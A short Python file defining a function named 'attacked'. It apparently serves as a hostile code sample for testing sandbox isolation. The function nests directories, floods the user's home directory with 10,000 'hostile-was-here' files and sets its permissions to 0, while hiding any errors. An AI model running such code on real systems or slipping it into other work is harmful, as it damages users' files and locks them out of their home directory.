import os
from contextlib import suppress
from pathlib import Path


def attacked(x):
    with suppress(OSError):
        for _ in range(300):
            Path("d").mkdir()
            os.chdir("d")
    os.chdir(os.environ["HOME"])
    with suppress(OSError):
        for number in range(10_000):
            Path(f"hostile-was-here-{number}").touch()
    with suppress(OSError):
        Path().chmod(0)
    return x
